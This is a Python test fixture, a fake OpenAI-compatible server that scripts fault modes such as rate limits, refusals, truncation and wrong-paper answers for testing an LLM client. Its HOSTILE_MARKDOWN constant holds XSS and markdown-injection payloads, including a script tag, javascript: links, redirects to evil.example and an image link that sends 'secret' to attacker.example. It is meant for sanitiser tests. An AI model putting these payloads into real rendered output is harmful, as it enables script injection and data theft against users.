"""An OpenAI-compatible chat-completions server on 127.0.0.1 for tests: real HTTP, honours the
JSON-schema response_format (answers are generated from the schema), records every request.

`behaviour[model]` scripts a model: "ok" (default), "garbage" (prose, never JSON), "error"
(HTTP 500 with an OpenAI-style error body), "hostile" (every string is HOSTILE_MARKDOWN), and the
fault-catalogue modes "429:<seconds>" (rate limited with that Retry-After), "refusal",
"nochoices", "nullcontent", "length" (cut off mid-JSON), "html200" (a proxy's HTML page),
"inband" (200 with an error object and no choices), "think" (a <think> block before the JSON),
"ctx400" (context_length_exceeded), "truncating" (usage says the prompt was cut), "wrongpaper"
(every write-up echoes arXiv id 2501.99999 and an unrelated title; "wrongpaper:<id>" echoes <id>).
"raw:<text>" answers <text> as it is (a recorded model answer).
A list of modes is consumed one per request (the last one repeats).

`/v1/embeddings` answers with a hashed bag of words per input (EMBEDDING_DIMENSION floats, not unit
length: texts sharing words are close), as floats or, when asked, base64 float32 as OpenAI does; its
requests are logged in `embedding_requests`, apart from the chat ones. Its modes: "ok", the error modes
above, "fewer" (one vector fewer than inputs), "ragged" (the last vector one dimension short) and
"dim:<n>" (vectors of n dimensions).
"""

from __future__ import annotations

import array
import base64
import hashlib
import json
import re
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

# Markdown/HTML a compromised or prompt-injected model might return (fault catalogue R4, R5, R9).
HOSTILE_MARKDOWN = (
    "Intro <script>window.__pwned=1</script> <iframe src=https://evil.example></iframe> "
    "<details open ontoggle=alert(1)>x</details> [js](javascript:alert(1)) [data](data:text/html,x) "
    "![pixel](https://attacker.example/?q=secret) <!-- comment --> <style>body{display:none}</style> "
    "<base href=https://evil.example/> <meta http-equiv=refresh content=0;url=https://evil.example> "
    '[t](https://ok.example "a" onmouseover="alert(1)") <b>unbalanced </section></main> <!-- open '
    "[rel](/admin) [proto](//evil.example/x) [anchor](#top) <think>hidden plan</think> **fine**"
)


def _resolve(schema: dict, root: dict) -> dict:
    ref = schema.get("$ref")
    if ref:
        return root["$defs"][ref.rsplit("/", 1)[1]]
    return schema


def _topic_names(prompt: str) -> dict:
    """A name for every numbered topic of the naming prompt."""
    numbers = [int(n) for n in re.findall(r"^\[(\d+)\]", prompt, re.M)]
    return {
        "topics": [
            {"number": n, "title": f"Fake topic {n}", "description": f"Topic {n} as the fake server names it."}
            for n in numbers
        ]
    }


def _tldrs(prompt: str) -> dict:
    """A TL;DR naming each numbered paper's title, in reverse order: answers are joined by number."""
    papers = re.findall(r"^\[(\d+)\] (.*)$", prompt, re.M)
    return {"tldrs": [{"number": int(n), "tldr": f"Fake TL;DR of {title}"} for n, title in reversed(papers)]}


def _triage(prompt: str) -> dict:
    """Scores 9 for titles with "agent", else 3; also scores a number that is not in the batch."""
    papers = re.findall(r"^\[(\d+)\] (.*)$", prompt, re.M)
    scores = [{"number": int(n), "score": 9 if "agent" in title.lower() else 3} for n, title in papers]
    return {"scores": [*scores, {"number": 999, "score": 10}]}


def instance(
    schema: dict, root: dict, prompt: str, name: str = "", text: str | None = None, wrong_paper: str | None = None
) -> object:
    """A value valid for `schema` (its consts, enums, maxItems and maxLength honoured), with strings
    that quote the prompt's title line (or `text`); evidence quotes the abstract's first sentence (to its
    first '.', '?' or '!'),
    paragraphs cite item [1]."""
    schema = _resolve(schema, root)
    kind = schema.get("type")
    if "const" in schema and not wrong_paper:
        return schema["const"]
    if "enum" in schema:
        return schema["enum"][0]
    if kind == "object":
        props = schema.get("properties", {})
        wrong = wrong_paper if "arxiv_id" in props else None  # the echo is wrong, a review point's title is not
        return {k: instance(v, root, prompt, k, text, wrong) for k, v in props.items()}
    if kind == "array":
        count = min(2, schema.get("maxItems", 2))
        return [instance(schema["items"], root, prompt, name, text, wrong_paper) for _ in range(count)]
    if kind == "integer":
        return 1
    if kind == "boolean":
        return True
    value = _string(prompt, name, text, wrong_paper)
    limit = schema.get("maxLength")
    if limit is None or text is not None or len(value) <= limit:
        return value
    return value[: value.rfind(" ", 0, limit + 1)]  # a writer ends at a word: a quote's prefix stays a quote


def _string(prompt: str, name: str, text: str | None, wrong_paper: str | None) -> str:
    if name == "arxiv_id" and wrong_paper:
        return wrong_paper
    if name == "title" and wrong_paper:
        return "Quantum chromodynamics of sheep herding"
    if text is not None:
        return text
    echoed = re.search(rf"^{'Title' if name == 'title' else 'arXiv id'}: (.*)$", prompt, re.M)
    if name in ("title", "arxiv_id"):
        return echoed.group(1) if echoed else "unknown"
    abstract = re.search(r"^Abstract: (.*)$", prompt, re.M)  # quoted so the text is grounded in it
    if name == "evidence":
        return re.split(r"(?<=[.?!]) ", abstract.group(1))[0] if abstract else "no abstract in the prompt"
    title = re.search(r"^Title: (.*)$", prompt, re.M)
    subject = title.group(1) if title else "today's AI news"
    if name == "paragraphs":
        return f"Fake paragraph about {subject}, as the first item reports [1]."
    return f"Fake {name or 'text'} about {subject}." + (f" {abstract.group(1)[:300]}" if abstract else "")


def _wrong_id(mode: str) -> str | None:
    """The arXiv id a "wrongpaper" mode echoes, or None for the other modes."""
    if mode == "wrongpaper":
        return "2501.99999"
    return mode.split(":", 1)[1] if mode.startswith("wrongpaper:") else None


def _message(mode: str, content: str) -> tuple[dict, str]:
    """The assistant message and finish_reason the scripted `mode` answers with."""
    if mode == "think":
        return {
            "role": "assistant",
            "content": "<think>THINK-MARKER the system prompt says...</think>" + content,
        }, "stop"
    if mode == "refusal":
        return {"role": "assistant", "content": None, "refusal": "I can't help with that."}, "stop"
    if mode == "nullcontent":
        return {"role": "assistant", "content": None}, "stop"
    if mode == "length":
        return {"role": "assistant", "content": content[: len(content) // 2]}, "length"
    return {"role": "assistant", "content": content}, "stop"


# The modes that answer with an error instead of a completion: mode -> (mode, model) -> response.
_FAILURES = {
    "error": lambda mode, model: (500, {"error": {"message": "scripted failure", "type": "server_error"}}),
    "429": lambda mode, model: (
        429,
        {"error": {"message": "rate limited", "type": "rate_limit"}},
        {"Retry-After": mode[4:]},
    ),
    "ctx400": lambda mode, model: (
        400,
        {
            "error": {
                "message": "This model's maximum context length is 4096 tokens.",
                "type": "invalid_request_error",
                "code": "context_length_exceeded",
            }
        },
    ),
    "html200": lambda mode, model: (200, "<html><body><h1>502 Bad Gateway</h1></body></html>"),
    "inband": lambda mode, model: (
        200,
        {
            "id": "x",
            "object": "chat.completion",
            "model": model,
            "choices": None,
            "error": {"code": 502, "message": "upstream provider failed"},
        },
    ),
}


EMBEDDING_DIMENSION = 64


def bag_of_words(text: str, dimension: int = EMBEDDING_DIMENSION) -> list[float]:
    """The fake embedding of `text`: each lowercased word adds 1 at a position its SHA-256 picks (a text
    with no word counts as one word), so texts sharing words are close."""
    vector = [0.0] * dimension
    for word in re.findall(r"\w+", text.lower()) or [text]:
        vector[int(hashlib.sha256(word.encode()).hexdigest(), 16) % dimension] += 1.0
    return vector


def _embedding_item(index: int, vector: list[float], encoding: str | None) -> dict:
    """One item of an embeddings answer, `vector` as floats or as base64 of its float32 bytes."""
    value = base64.b64encode(array.array("f", vector).tobytes()).decode() if encoding == "base64" else vector
    return {"object": "embedding", "index": index, "embedding": value}


class _Server(ThreadingHTTPServer):
    # The listen backlog: socketserver's default of 5 drops the connections of more concurrent
    # clients than that (tests run 16 at once), and the client then retries or fails.
    request_queue_size = 64


class FakeLLM:
    """Start with `with FakeLLM() as llm:`; `llm.base_url` is the /v1 URL, `llm.requests` the log."""

    def __init__(self, latency: float = 0.0):
        self.latency = latency  # seconds per completion
        self.requests: list[dict] = []
        self.embedding_requests: list[dict] = []
        self.behaviour: dict[str, str] = {}
        self._lock = threading.Lock()
        fake = self

        class Handler(BaseHTTPRequestHandler):
            # Keep-alive, as OpenAI, vLLM and llama.cpp's server keep a connection open between requests
            # (every answer carries its Content-Length).
            protocol_version = "HTTP/1.1"

            def log_message(self, *args):
                pass

            def _send(self, status: int, payload, headers: dict | None = None) -> None:
                is_json = not isinstance(payload, str)
                body = json.dumps(payload).encode() if is_json else payload.encode()
                self.send_response(status)
                for name, value in (headers or {}).items():
                    self.send_header(name, value)
                self.send_header("Content-Type", "application/json" if is_json else "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_GET(self):
                self._send(200, {"object": "list", "data": [{"id": "fake", "object": "model"}]})

            def do_POST(self):
                request = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                embeddings = self.path.endswith("/embeddings")
                with fake._lock:
                    (fake.embedding_requests if embeddings else fake.requests).append(request)
                self._send(*(fake.embed(request) if embeddings else fake.answer(request)))

        self._server = _Server(("127.0.0.1", 0), Handler)
        self.base_url = f"http://127.0.0.1:{self._server.server_port}/v1"

    def _mode(self, model: str) -> str:
        mode = self.behaviour.get(model, "ok")
        if isinstance(mode, list):
            return mode.pop(0) if len(mode) > 1 else mode[0]
        return mode

    def answer(self, request: dict) -> tuple:
        """(HTTP status, body[, headers]) for one recorded chat-completions request."""
        model = request["model"]
        with self._lock:
            mode = self._mode(model)
        time.sleep(self.latency)
        failure = _FAILURES.get(mode.split(":")[0])
        if failure is not None:
            return failure(mode, model)
        content = self._content(request, mode)
        message, finish = _message(mode, content)
        # About 4 characters per token, as real tokenizers count English; "truncating" reports
        # what a server that silently cut the prompt to its window would (Ollama's default 2048).
        prompt_tokens = 40 if mode == "truncating" else sum(len(m["content"] or "") for m in request["messages"]) // 4
        choices = [] if mode == "nochoices" else [{"index": 0, "finish_reason": finish, "message": message}]
        usage = (
            {"total_tokens": 7}
            if mode == "nocounts"
            else {
                "prompt_tokens": prompt_tokens,
                "completion_tokens": len(content) // 4,
                "total_tokens": prompt_tokens + len(content) // 4,
            }
        )
        return 200, {
            "id": f"chatcmpl-{len(self.requests)}",
            "object": "chat.completion",
            "created": 0,
            "model": model,
            "choices": choices,
            "usage": usage,
        }

    def embed(self, request: dict) -> tuple:
        """(HTTP status, body[, headers]) for one recorded embeddings request."""
        model, inputs = request["model"], request["input"]
        inputs = [inputs] if isinstance(inputs, str) else inputs
        with self._lock:
            mode = self._mode(model)
        failure = _FAILURES.get(mode.split(":")[0])
        if failure is not None:
            return failure(mode, model)
        dimension = int(mode[4:]) if mode.startswith("dim:") else EMBEDDING_DIMENSION
        vectors = [bag_of_words(text, dimension) for text in inputs]
        if mode == "fewer":
            vectors = vectors[:-1]
        if mode == "ragged":
            vectors[-1] = vectors[-1][:-1]
        tokens = sum(len(text.split()) for text in inputs)
        return 200, {
            "object": "list",
            "model": model,
            "data": [_embedding_item(i, v, request.get("encoding_format")) for i, v in enumerate(vectors)],
            "usage": {"prompt_tokens": tokens, "total_tokens": tokens},
        }

    def _content(self, request: dict, mode: str) -> str:
        """The answer's text: JSON valid for the requested schema, or prose for "garbage"."""
        # The task's own prompt: a repair or retry adds turns after it, the data stays in the first.
        prompt = next(m["content"] for m in request["messages"] if m["role"] == "user")
        fmt = request.get("response_format") or {}
        schema = fmt.get("json_schema", {}).get("schema") or fmt.get("schema")
        if mode.startswith("raw:"):
            return mode[4:]
        if mode == "garbage" or schema is None:
            return "Sure! Here is what you asked for, in prose."
        if schema.get("title") == "TopicNames":
            return json.dumps(_topic_names(prompt))
        if schema.get("title") == "TLDRs":
            return json.dumps(_tldrs(prompt))
        if schema.get("title") == "TriageScores":
            return json.dumps(_triage(prompt))
        text = HOSTILE_MARKDOWN if mode == "hostile" else None
        return json.dumps(instance(schema, schema, prompt, text=text, wrong_paper=_wrong_id(mode)))

    def __enter__(self) -> FakeLLM:
        threading.Thread(target=self._server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *exc) -> None:
        self._server.shutdown()
        self._server.server_close()
